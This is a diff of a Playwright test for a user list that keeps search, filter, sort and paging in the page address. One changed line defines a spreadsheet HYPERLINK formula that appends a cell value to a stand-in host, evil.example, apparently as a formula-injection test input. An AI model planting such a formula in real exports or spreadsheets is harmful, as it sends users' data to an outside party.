@@ -12,7 +12,7 @@ interface User {
   status: string;
 }
 
-const FORMULA = `=HYPERLINK("https://evil.example/?"&A1,"Payroll")`;
+const FORMULA = '=HYPERLINK("https://evil.example/?"&A2,"Salaries")';
 
 test("users are searched, filtered, sorted and paged, all in the address", async ({
   page,
@@ -78,7 +78,7 @@ test("users are searched, filtered, sorted and paged, all in the address", async
     await search.fill(wanted.display_name!.toLowerCase());
     await expect(page.getByRole("link", { name: wanted.display_name!, exact: true }).first()).toBeVisible();
     // The address alone shows the same to somebody else.
-    await expect(page).toHaveURL(/q=/);
+    await expect.poll(() => new URL(page.url()).searchParams.get("q")).toBe(wanted.display_name!.toLowerCase());
     await goto(page.url());
     await expect(page.getByRole("link", { name: wanted.display_name!, exact: true }).first()).toBeVisible();
     await expect(search).toHaveValue(wanted.display_name!.toLowerCase());
